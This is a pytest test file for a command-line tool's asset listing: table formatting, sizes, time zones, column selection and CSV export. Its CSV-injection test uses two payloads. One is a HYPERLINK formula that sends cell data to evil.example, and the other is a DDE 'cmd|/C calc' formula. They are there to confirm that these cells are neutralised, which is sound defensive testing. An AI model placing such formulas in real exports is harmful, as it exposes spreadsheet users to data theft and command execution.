"""Tables people read and CSV files spreadsheets open, on the asset listing (issue 16)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from tests.data.conftest import make_file

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _s3(cli: Any, name: str, size: str = "2G", key: str = "k") -> Any:
    return cli.ok(
        "data", "asset", "register", "--type", "dataset", "--classification", "confidential",
        "--location", f"s3://bucket/{key}", "--size", size, "--", name,
        user="olga", tenant="acme",
    )  # fmt: skip


def _table(cli: Any, *args: str, columns: int = 200, **kw: Any) -> Any:
    res = cli(*args, fmt="table", env={"COLUMNS": str(columns), **kw.pop("env", {})}, **kw)
    assert res.exit_code == 0, res.stderr
    return res


def _tokens(line: str) -> list[str]:
    """The cells of one table line (columns are two or more spaces, or box lines, apart)."""
    return [t.strip() for t in re.split(r"\s{2,}|[│┃|]", line) if t.strip()]


def test_sizes_are_human_and_headers_title_case(cli: Any, tenant: Any) -> None:
    """``data asset register --size 2G`` then ``data asset list`` showed ``2147483648`` under a
    ``size_bytes`` header (and ``--size 2G`` itself was refused); JSON keeps the bytes."""
    asset = _s3(cli, "scans", "2G")
    assert asset["size_bytes"] == 2 * 1024**3
    out = _table(cli, "data", "asset", "list", user="olga", tenant="acme").stdout
    assert "2.0 GiB" in out and "2147483648" not in out
    header = out.splitlines()[0]
    assert _tokens(header)[:6] == ["ID", "Name", "Type", "Classification", "Status", "Size"]
    assert "size_bytes" not in out and "legal_hold" not in out
    assert cli.ok("data", "asset", "list", user="olga", tenant="acme")[0]["size_bytes"] == (
        2147483648
    )


def test_times_have_seconds_and_the_local_offset(cli: Any, tenant: Any) -> None:
    """Tables showed ``2026-03-01T10:15:30.123456+00:00`` (microseconds, UTC) to a person in
    another zone; they show seconds in the local zone (``TZ``) with its offset. JSON is
    unchanged: full ISO 8601 in UTC."""
    env = {"SHIFTY_NOW": "2026-03-01T10:15:30.123456+00:00", "TZ": "Asia/Kolkata"}
    asset = cli.ok(
        "data", "asset", "register", "scans", "--type", "dataset", "--classification", "pii",
        "--location", "s3://b/k", user="olga", tenant="acme", env=env,
    )  # fmt: skip
    assert asset["created_at"] == "2026-03-01T10:15:30.123456+00:00"
    shown = _table(cli, "data", "asset", "show", asset["id"], user="olga", tenant="acme", env=env)
    assert "2026-03-01 15:45:30+05:30" in shown.stdout
    assert ".123456" not in shown.stdout and "10:15:30" not in shown.stdout
    listed = _table(
        cli, "--columns", "id,created_at", "data", "asset", "list", user="olga", tenant="acme",
        env=env,
    )  # fmt: skip
    assert "2026-03-01 15:45:30+05:30" in listed.stdout


def test_80_columns_never_break_cells_into_letters(
    cli: Any, tenant: Any, root: Path, register: Any
) -> None:
    """At ``COLUMNS=80`` the asset table folded every cell (``datase``/``t``, ``confid``/
    ``ential``, ``214748``/``3648``); now each cell keeps its words whole, lines fit 80
    characters and the columns left out are named on stderr."""
    register("quarterly-customer-export", make_file(root / "deep" / "dir" / "export.parquet"))
    _s3(cli, "scans", "2G", key="very/long/prefix/of/objects/scan-0001.tar")
    res = _table(cli, "data", "asset", "list", columns=80, user="olga", tenant="acme")
    lines = res.stdout.rstrip("\n").splitlines()
    assert all(len(line.rstrip()) <= 80 for line in lines), res.stdout
    for word in ("dataset", "confidential", "active", "2.0 GiB", "quarterly-customer-export"):
        assert word in res.stdout, (word, res.stdout)
    for line in lines:
        assert not [t for t in _tokens(line) if len(t) == 1 and t.isalnum()], res.stdout
    assert "more column" in res.stderr and "--wide" in res.stderr


def test_columns_picks_and_wide_shows_every_field(cli: Any, tenant: Any) -> None:
    """There was no way to choose columns. ``--columns`` takes JSON field names (or the header
    a person sees, ``size``); an unknown one exits 2 naming the valid ones; ``--wide`` shows
    every field."""
    _s3(cli, "scans", "1M")
    res = _table(cli, "--columns", "name,size,sha256", "data", "asset", "list", user="olga",
                 tenant="acme")  # fmt: skip
    lines = res.stdout.splitlines()
    assert _tokens(lines[0]) == ["Name", "Size", "SHA-256"]
    assert _tokens(lines[2]) == ["scans", "1.0 MiB"]
    bad = cli("--columns", "name,colour", "data", "asset", "list", user="olga", tenant="acme",
              fmt="table")  # fmt: skip
    assert bad.exit_code == 2 and bad.stdout == ""
    assert len(bad.stderr.strip().splitlines()) == 1
    assert "'colour'" in bad.stderr and "size_bytes" in bad.stderr and "created_by" in bad.stderr
    wide = _table(cli, "--wide", "data", "asset", "list", columns=80, user="olga", tenant="acme")
    assert "Created By" in wide.stdout and "Archive Location" in wide.stdout
    assert wide.stderr == ""
    # JSON always carries every field, whatever --columns says
    assert (
        len(cli.ok("--columns", "name", "data", "asset", "list", user="olga", tenant="acme")[0])
        > 10
    )


def test_unknown_column_on_one_object_is_a_warning(cli: Any, tenant: Any) -> None:
    """A command that creates one thing has acted before it prints: an unknown ``--columns``
    name there is a warning (exit 0, the asset is registered), not exit 2 ("nothing
    changed")."""
    res = cli(
        "--columns", "name,colour", "data", "asset", "register", "--type", "dataset",
        "--classification", "pii", "--location", "s3://b/k", "--", "scans",
        user="olga", tenant="acme", fmt="table",
    )  # fmt: skip
    assert res.exit_code == 0 and "warning: unknown column 'colour'" in res.stderr
    assert "scans" in res.stdout and "Classification" not in res.stdout
    assert [a["name"] for a in cli.ok("data", "asset", "list", tenant="acme")] == ["scans"]


def test_csv_has_every_json_field_and_lowercase_booleans(cli: Any, tenant: Any) -> None:
    """``-o csv`` kept the 9 table columns of 19 fields and wrote ``False``; it now has every
    field of the JSON, in its order, with ``true``/``false`` and lists as JSON text."""
    _s3(cli, "scans", "2G")
    fields = list(cli.ok("data", "asset", "list", user="olga", tenant="acme")[0])
    res = cli("data", "asset", "list", user="olga", tenant="acme", fmt="csv")
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert res.exit_code == 0 and list(rows[0]) == fields and len(fields) >= 18
    assert rows[0]["legal_hold"] == "false" and rows[0]["subjects"] == "[]"
    assert rows[0]["size_bytes"] == "2147483648" and len(rows[0]["id"]) == 36
    chosen = cli("--columns", "name,legal_hold", "data", "asset", "list", user="olga",
                 tenant="acme", fmt="csv")  # fmt: skip
    assert chosen.stdout == "name,legal_hold\nscans,false\n"


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+1-800-cmd", "'+1-800-cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-1.5", "-1.5"),  # a plain number is read as that number, nothing else
        ("plain=name", "plain=name"),
    ],
)
def test_csv_neutralises_formula_cells(cli: Any, tenant: Any, name: str, cell: str) -> None:
    """An asset named ``=HYPERLINK(...)`` went into ``-o csv`` as a live formula. Cells that
    start with ``= + - @`` (tab, CR) get a leading quote (OWASP); plain numbers stay numbers;
    JSON keeps the name as it is."""
    _s3(cli, name, "10")
    res = cli("data", "asset", "list", user="olga", tenant="acme", fmt="csv")
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert [r["name"] for r in rows] == [cell]
    assert cli.ok("data", "asset", "list", user="olga", tenant="acme")[0]["name"] == name


def test_nested_values_keep_their_booleans(cli: Any, tenant: Any) -> None:
    """``data policy update --auto-delete`` showed ``changed {"auto_delete":}`` (the booleans
    vanished as console markup) and JSON blobs in cells; nested values are short text now."""
    cli.ok("data", "policy", "create", "p1", "-c", "pii", "--retention-days", "30", tenant="acme")
    res = _table(cli, "data", "policy", "update", "p1", "--auto-delete", "--yes", tenant="acme")
    assert "auto_delete: [no, yes]" in res.stdout
    assert "recomputed: 0, covered: 0" in res.stdout and '{"' not in res.stdout


@pytest.mark.parametrize(
    "command",
    [
        ("tenant", "list"),
        ("user", "list"),
        ("tenant", "root", "list"),
        ("data", "policy", "list"),
        ("arcade", "types"),
        ("gpu", "types"),
    ],
)
def test_listings_fit_80_columns(cli: Any, tenant: Any, root: Path, command: tuple[str]) -> None:
    """At ``COLUMNS=80`` ``user list`` and ``data policy list`` broke headers and cells into
    letters (``classi``/``ficati``/``on``, ``e``); every listing here now fits 80 characters
    with whole words (the others guard against a regression)."""
    cli.ok("gpu", "budget", "set", "--monthly", "1500", "--hourly", "2.5", tenant="acme")
    cli.ok(
        "data", "policy", "create", "customer-records", "-c", "pii", "-c", "confidential",
        "--retention-days", "365", "--auto-delete", "--archive-before-delete", tenant="acme",
    )  # fmt: skip
    res = _table(cli, *command, columns=80, tenant="acme")
    lines = res.stdout.rstrip("\n").splitlines()
    assert len(lines) >= 3 and all(len(line.rstrip()) <= 80 for line in lines), res.stdout
    letters = [t for line in lines for t in _tokens(line) if len(t) == 1 and t.isalpha()]
    assert not letters, res.stdout
